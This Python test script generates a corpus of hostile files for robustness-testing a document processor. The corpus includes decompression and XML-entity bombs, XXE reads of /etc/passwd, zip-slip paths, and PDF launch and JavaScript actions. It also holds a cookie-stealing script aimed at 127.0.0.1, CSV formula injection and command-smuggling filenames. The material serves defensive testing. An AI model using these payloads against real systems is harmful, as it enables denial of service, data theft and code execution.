"""Makes hostile files in a folder: `python tests/attack/hostile.py FOLDER`.

Bombs, loops, lies, polyglots, broken and badly named files, each by a few lines of code. They are
numbered; `names.json` says what each wants to be called. None of them does anything by itself.
"""

import io
import json
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pypdf
from PIL import Image

Made = bytes | Callable[[Path], None]
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<<%s>>>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
FONT = b"/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>"
HELLO = b"BT /F 30 Tf 60 700 Td (hello) Tj ET"


# PDF


def stream(data: bytes, more: bytes = b"", length: object = None) -> bytes:
    """A stream object."""
    said = str(len(data) if length is None else length).encode()
    return b"<</Length " + said + more + b">>stream\n" + data + b"\nendstream"


def flate(data: bytes, more: bytes = b"") -> bytes:
    """A compressed stream object."""
    return stream(zlib.compress(data, 9), b"/Filter/FlateDecode" + more)


def pdf(*objects: bytes, trailer: bytes = b"", start: int | None = None) -> bytes:
    """A PDF of numbered objects, the first being the catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % one for one in places)
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\n" % (len(objects) + 1, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % (xref if start is None else start))


def one_page(content: bytes, *more: bytes, resources: bytes = FONT) -> bytes:
    """A PDF of one page; `more` are its objects from 5 on."""
    return pdf(CATALOG, PAGES, PAGE % resources, content, *more)


def opening(action: bytes) -> bytes:
    """A PDF that wants something done when it is opened."""
    return pdf(CATALOG[:-2] + b"/OpenAction" + action + b">>", PAGES, PAGE % FONT, stream(HELLO))


PLAIN = one_page(stream(HELLO))


def deep_tree() -> bytes:
    nodes = [
        b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (at + 3, at + 1)
        for at in range(20_000)
    ]
    leaf = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 9 9]>>" % (len(nodes) + 1)
    return pdf(CATALOG, *nodes, leaf)


def million_objects() -> bytes:
    count = 1_000_000
    head = b"9 0 " * count
    body = flate(
        head + b"\n" + b"0 " * count, b"/Type/ObjStm/N %d/First %d" % (count, len(head) + 1)
    )
    return pdf(CATALOG, PAGES, PAGE % FONT, stream(HELLO), body)


def mediabox(box: bytes) -> bytes:
    page = PAGE.replace(b"[0 0 600 800]", box) % FONT
    return pdf(CATALOG, PAGES, page, stream(HELLO))


def counted(count: bytes) -> bytes:
    return pdf(CATALOG, PAGES.replace(b"Count 1", b"Count " + count), PAGE % FONT, stream(HELLO))


def locked(user: str) -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(PLAIN))
    writer.encrypt(user_password=user, owner_password="owner")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def painted(more: bytes, data: bytes) -> bytes:
    """A page that paints an image."""
    picture = stream(data, b"/Type/XObject/Subtype/Image" + more)
    return one_page(stream(b"600 0 0 800 0 0 cm /X Do"), picture, resources=b"/XObject<</X 5 0 R>>")


def looping_form(resources: bytes = b"/XObject<</X 5 0 R>>") -> bytes:
    form = stream(
        b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<<%s>>" % resources
    )
    return one_page(stream(b"/X Do"), form, resources=resources)


def many_forms() -> bytes:
    """Each form paints the next twice: 2 to the power of 40."""
    forms = [
        stream(
            b"/X Do /X Do",
            b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</X %d 0 R>>>>"
            % (at + 6),
        )
        for at in range(40)
    ]
    last = stream(b"0 0 600 800 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]")
    return one_page(stream(b"/X Do"), *forms, last, resources=b"/XObject<</X 5 0 R>>")


def tiles() -> bytes:
    pattern = stream(
        b"0 0 .001 .001 re f",
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 .01 .01]"
        b"/XStep .01/YStep .01/Resources<<>>",
    )
    return one_page(
        stream(b"/Pattern cs /P scn 0 0 600 800 re f"), pattern, resources=b"/Pattern<</P 5 0 R>>"
    )


def type3() -> bytes:
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]"
        b"/CharProcs<</a 6 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[9]"
        b"/Resources<</Font<</F 5 0 R>>>>>>"
    )
    return one_page(
        stream(b"BT /F 9 Tf (aaaa) Tj ET"),
        font,
        stream(b"9 0 d0 BT /F 9 Tf (aaaa) Tj ET"),
        resources=b"/Font<</F 5 0 R>>",
    )


def xfa() -> bytes:
    return pdf(
        CATALOG[:-2] + b"/AcroForm<</XFA 5 0 R/Fields[]>>>>", PAGES, PAGE % FONT, stream(HELLO),
        stream(laughs()),
    )  # fmt: skip


def outline_loop() -> bytes:
    return pdf(
        CATALOG[:-2] + b"/Outlines 5 0 R>>", PAGES, PAGE % FONT, stream(HELLO),
        b"<</First 6 0 R/Last 6 0 R/Count 9>>",
        b"<</Title(x)/Next 6 0 R/First 5 0 R/Parent 5 0 R>>",
    )  # fmt: skip


def pdfs() -> Iterator[tuple[str, Made]]:
    spaces = zlib.compress(zlib.compress(b" " * 2**27, 6), 9)
    yield "bomb.pdf", one_page(flate(b" " * 2**26))
    yield "bomb twice.pdf", one_page(stream(spaces, b"/Filter[/FlateDecode/FlateDecode]"))
    yield (
        "filters.pdf",
        one_page(stream(b"00>" * 9, b"/Filter[" + b"/ASCIIHexDecode" * 5000 + b"]")),
    )
    yield "deep tree.pdf", deep_tree()
    yield "round tree.pdf", pdf(CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 4>>")
    yield "million.pdf", million_objects()
    for name, box in {
        "huge": b"[0 0 1e9 1e9]", "long": b"[0 0 1 1e7]", "nothing": b"[0 0 0 0]",
        "below": b"[9 9 -9 -9]", "words": b"[/a /b /c /d]",
        "endless": b"[0 0 9%s 9]" % (b"9" * 400),
    }.items():  # fmt: skip
        yield f"box {name}.pdf", mediabox(box)
    for count in (b"2000000000", b"-1", b"99999999999999999999", b"7"):
        yield f"count {count.decode()}.pdf", counted(count)
    yield "script.pdf", opening(b"<</S/JavaScript/JS(app.alert\\(1\\);while\\(1\\){})>>")
    yield "launch.pdf", opening(b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>")
    yield "submit.pdf", opening(b"<</S/SubmitForm/F(http://127.0.0.1:9/)>>")
    yield "uri.pdf", opening(b"<</S/URI/URI(javascript:alert\\(1\\))>>")
    yield "remote.pdf", opening(b"<</S/GoToR/F(\\\\\\\\127.0.0.1\\\\share)/D[0/Fit]>>")
    yield "xfa.pdf", xfa()
    yield "locked.pdf", locked("secret")
    yield "half locked.pdf", locked("")
    for part in (9, 10, 50, 90, 99):
        yield f"cut {part}.pdf", PLAIN[: len(PLAIN) * part // 100]
    yield "no end.pdf", PLAIN[: PLAIN.rindex(b"%%EOF")]
    yield (
        "xref loop.pdf",
        pdf(
            CATALOG,
            PAGES,
            PAGE % FONT,
            stream(HELLO),
            trailer=b"/Prev %d" % PLAIN.index(b"xref\n0"),
        ),
    )
    yield "xref beyond.pdf", pdf(CATALOG, PAGES, PAGE % FONT, stream(HELLO), start=10**9)
    yield "xref first.pdf", pdf(CATALOG, PAGES, PAGE % FONT, stream(HELLO), start=0)
    yield "form loop.pdf", looping_form()
    yield "forms.pdf", many_forms()
    yield "tiles.pdf", tiles()
    yield "type3.pdf", type3()
    yield "states.pdf", one_page(flate(b"q " * 2_000_000))
    yield "arrays.pdf", one_page(flate(b"[" * 500_000))
    yield "deep object.pdf", one_page(stream(HELLO), b"[" * 200_000)
    yield "dictionaries.pdf", one_page(stream(HELLO), b"<</a" * 200_000)
    yield "dashes.pdf", one_page(stream(b"[.0001 .0001] 0 d 0 0 m 600 800 l S " * 50))
    yield "paths.pdf", one_page(flate(b"0 0 m 600 800 l 3 9 500 7 1 1 c S " * 200_000))
    yield (
        "letters.pdf",
        one_page(flate(b"BT /F 3 Tf 9 9 Td " + b"(abcdefgh) Tj " * 20_000 + b"ET")),
    )
    yield "length.pdf", one_page(stream(HELLO, length=2**31 - 1))
    yield "length loop.pdf", one_page(stream(HELLO, length="4 0 R"))
    yield "content loop.pdf", pdf(CATALOG, PAGES, PAGE % FONT, b"[4 0 R 4 0 R]")
    yield "outline.pdf", outline_loop()
    size = b"/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    yield "image.pdf", painted(size + b"/Filter/FlateDecode", zlib.compress(bytes(2**24), 9))
    yield (
        "mask loop.pdf",
        painted(
            b"/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8/SMask 5 0 R", bytes(81)
        ),
    )
    for name in ("JBIG2Decode", "JPXDecode", "DCTDecode", "CCITTFaxDecode", "RunLengthDecode"):
        yield f"{name}.pdf", painted(size + b"/Filter/" + name.encode(), bytes(range(256)) * 8)
    yield (
        "font.pdf",
        one_page(
            stream(HELLO),
            b"<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 6 0 R>>",
            stream(b"\0\1\0\0" + bytes(range(256)) * 40),
            resources=b"/Font<</F<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor 5 0 R>>>>",
        ),
    )
    yield "no pages.pdf", pdf(CATALOG, b"<</Type/Pages/Kids[]/Count 0>>")
    yield "noise.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\nstartxref\n9\n%%EOF\n"


# Images


def png(width: int, height: int, *, rows: bytes = b"", chunks: bytes = b"") -> bytes:
    """A grey PNG of these dimensions, whatever its rows are."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    data = part(b"IHDR", head) + chunks + part(b"IDAT", zlib.compress(rows, 9)) + part(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + data


def part(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def picture(
    kind: str, size: tuple[int, int] = (400, 300), frames: int = 1, **options: object
) -> bytes:
    out = io.BytesIO()
    first, *others = [Image.new("L", size, at % 256) for at in range(frames)]
    more = {"save_all": True, "append_images": others} if others else {}
    first.save(out, kind, **more, **options)
    return out.getvalue()


def tiff(width: int, height: int, following: int) -> bytes:
    """A TIFF of one strip that is not there, whose directory names the next."""
    tags = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
            (273, 4, 1, 9999), (278, 4, 1, height), (279, 4, 1, 2**31 - 1)]  # fmt: skip
    body = b"".join(struct.pack("<HHII", *one) for one in tags)
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + body + struct.pack("<I", following)


def images() -> Iterator[tuple[str, Made]]:
    row = bytes(30_000 // 8 + 1)
    yield "bomb.png", png(30_000, 30_000, rows=row * 30_000)
    yield "giant.png", png(2**31 - 1, 2**31 - 1)
    yield "broad.png", png(2**31 - 1, 1, rows=bytes(2**20))
    yield "short.png", png(4000, 4000, rows=b"\0" * 99)
    text = part(b"zTXt", b"a\0\0" + zlib.compress(bytes(2**26), 6))
    yield "text.png", png(8, 8, rows=bytes(16), chunks=text)
    yield "cut.png", picture("PNG", (900, 900))[:200]
    whole = picture("JPEG", (900, 700))
    yield "cut.jpg", whole[: len(whole) // 2]
    at = whole.index(b"\xff\xc0")
    yield "giant.jpg", whole[: at + 5] + b"\xff\xff\xff\xff" + whole[at + 9 :]
    yield "head.jpg", b"\xff\xd8\xff\xe0"
    yield "turned.jpg", picture("JPEG", exif=b"Exif\0\0II*\0\x08\0\0\0\xff\xff" + b"\xff" * 99)
    yield "pages.tif", picture("TIFF", (9, 9), 600)
    yield "loop.tif", tiff(100, 100, 8)
    yield "giant.tif", tiff(2**31 - 1, 2**31 - 1, 0)
    yield "frames.gif", picture("GIF", (9, 9), 600)
    gif = picture("GIF")
    yield "giant.gif", gif[:6] + b"\xff\xff\xff\xff" + gif[10:]
    yield "cut.webp", picture("WEBP", (900, 900))[:60]
    yield "jpeg2000.jp2", b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(500)
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    )
    yield "script.svg", svg.encode()
    yield "laughs.svg", laughs(b"svg")
    yield "file.svg", outside(b"svg")


# Archives, and what is made of them


def packed(*members: tuple[str, bytes], plain: str = "") -> bytes:
    """A ZIP; `plain` is the member that is not compressed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as file:
        for name, data in members:
            kind = zipfile.ZIP_STORED if name == plain else zipfile.ZIP_DEFLATED
            file.writestr(zipfile.ZipInfo(name), data, kind)
    return out.getvalue()


def laughs(root: bytes = b"lolz") -> bytes:
    """A billion laughs."""
    entities = b"".join(
        b'<!ENTITY l%d "%s">' % (at, b"&l%d;" % (at - 1) * 10) for at in range(1, 10)
    )
    return b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">%s]><%s>&l9;</%s>' % (
        entities,
        root,
        root,
    )


def quadratic(root: bytes = b"x") -> bytes:
    """One long entity, many times."""
    entity = b'<!ENTITY a "%s">' % (b"a" * 100_000)
    return b'<?xml version="1.0"?><!DOCTYPE x [%s]><%s>%s</%s>' % (
        entity,
        root,
        b"&a;" * 100_000,
        root,
    )


def outside(root: bytes = b"x") -> bytes:
    """A file of the server's as an entity."""
    doctype = b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    return b'<?xml version="1.0"?>%s<%s>&f;</%s>' % (doctype, root, root)


def docx(body: bytes, *more: tuple[str, bytes]) -> bytes:
    return packed(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", body), *more)


def odt(body: bytes) -> bytes:
    kind = b"application/vnd.oasis.opendocument.text"
    return packed(("mimetype", kind), ("content.xml", body), plain="mimetype")


def epub(container: bytes, *more: tuple[str, bytes]) -> bytes:
    members = (("mimetype", b"application/epub+zip"), ("META-INF/container.xml", container))
    return packed(*members, *more, plain="mimetype")


def overlapping() -> bytes:
    """A ZIP whose directory names one large member a thousand times."""
    data = packed(("a", bytes(2**24)))
    end = data.index(b"PK\x01\x02")
    entry = data[end : data.rindex(b"PK\x05\x06")]
    count = 1000
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(entry) * count, end, 0)
    return data[:end] + entry * count + tail


def crowded() -> bytes:
    """A ZIP of very many empty files, all called alike."""
    count = 500_000
    local = b"PK\x03\x04" + bytes(22) + b"\x01\0\0\0a"
    entry = b"PK\x01\x02" + bytes(24) + b"\x01" + bytes(17) + b"a"
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 65535, 65535, len(entry) * count, 31, 0)
    return local + entry * count + tail


def nested() -> bytes:
    data = bytes(2**22)
    for _ in range(6):
        data = packed(*((f"{at}.zip", data) for at in range(8)))
    return data


def archives() -> Iterator[tuple[str, Made]]:
    zeros = bytes(2**26)
    book = b'<container><rootfiles><rootfile full-path="%s"/></rootfiles></container>'
    yield "zeros.zip", packed(("zeros", zeros))
    yield "nested.zip", nested()
    yield "overlap.zip", overlapping()
    yield "many.zip", crowded()
    yield (
        "slip.zip",
        packed(("../../../etc/cron.d/x", b"x"), ("/etc/passwd", b"x"), ("C:\\x", b"x")),
    )
    yield "zeros.gz", zlib.compress(zeros, 9, 31)
    yield "slip.docx", docx(b"<w/>", ("../../slipped", b"x"), ("word/../../slipped", b"x"))
    yield "zeros.docx", docx(b"<w>" + zeros + b"</w>")
    for name, body in (("laughs", laughs()), ("quadratic", quadratic()), ("file", outside())):
        yield f"{name}.docx", docx(body)
        yield f"{name}.odt", odt(body)
        yield f"{name}.epub", epub(body)
    yield "deep.docx", docx(b"<w>" * 200_000)
    yield "cut.docx", docx(b"<w>text</w>")[:-30]
    yield "zeros.odt", odt(b"<o>" + zeros + b"</o>")
    yield "slip.epub", epub(book % b"../../../../etc/passwd", ("../slipped", b"x"))
    yield "loop.epub", epub(book % b"META-INF/container.xml")
    yield "zeros.epub", epub(book % b"a.opf", ("a.opf", b"<package>" + zeros + b"</package>"))


# What is two things, or nothing


def sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(100 * 2**20)


def others() -> Iterator[tuple[str, Made]]:
    script = b"<script>document.location='//127.0.0.1/'+document.cookie</script>"
    page = b"<!doctype html><title>x</title>" + script
    yield "page and paper.pdf", page.replace(b"<title>", b"<title>" + PLAIN)
    yield "paper and page.html", PLAIN + page
    yield "picture and script.gif", b"GIF89a=1;alert(1)/*" + picture("GIF") + b"*/"
    yield "picture and page.jpg", picture("JPEG", comment=script) + page
    yield "picture and page.html", picture("PNG") + page
    yield "paper and archive.pdf", PLAIN + packed(("word/document.xml", b"<w/>"))
    yield "archive and paper.docx", docx(b"<w/>") + PLAIN
    yield "page.html", page
    yield "page.pdf", page
    yield "page.txt", page
    yield (
        "page.xhtml",
        b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + script + b"</html>",
    )
    yield "style.xml", b'<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?><a/>'
    yield "laughs.xml", laughs()
    yield "laughs.fb2", laughs(b"FictionBook")
    yield "script.js", b"alert(1)"
    yield "program.jpg", b"MZ" + bytes(300)
    yield "utf-7.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    yield "line.txt", b"a" * 2**24
    yield "braces.rtf", b"{\\rtf1" + b"{" * 2**20
    yield "formula.csv", b"=cmd|'/c calc'!A1,@SUM(1)\n"
    yield "nothing.pdf", b""
    yield "zeros.bin", sparse


def names() -> Iterator[tuple[str, Made]]:
    for name in (
        "../../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "a\0.pdf.exe", "..", ".", "",
        "invoice\u202efdp.exe", "\u2066a\u2069\ufeff.txt", "a" * 5000 + ".txt", "ө" * 5000,
        "CON.txt",
        ".htaccess", "a\r\nSet-Cookie: x=1\r\n\r\n.txt", "<img src=x onerror=alert(1)>.txt",
        "%2e%2e%2f%00.txt", "a/../../b.txt", '"; filename="b.html', "thumbnail", "pages",
        "\ud7ff\U0010ffff",
        "$(touch x).txt", "`id`.txt", "-rf", "~root", "а́̂̃" * 90 + ".txt",
    ):  # fmt: skip
        yield name, b"named " + repr(name).encode()


def make(folder: Path) -> None:
    """Writes the files and `names.json`."""
    folder.mkdir(parents=True, exist_ok=True)
    known = {}
    for number, (name, made) in enumerate((*pdfs(), *images(), *archives(), *others(), *names())):
        path = folder / f"{number:03}"
        if callable(made):
            made(path)
        else:
            path.write_bytes(made)
        known[path.name] = name
    (folder / "names.json").write_text(json.dumps(known), "utf-8")


if __name__ == "__main__":
    make(Path(sys.argv[1]))
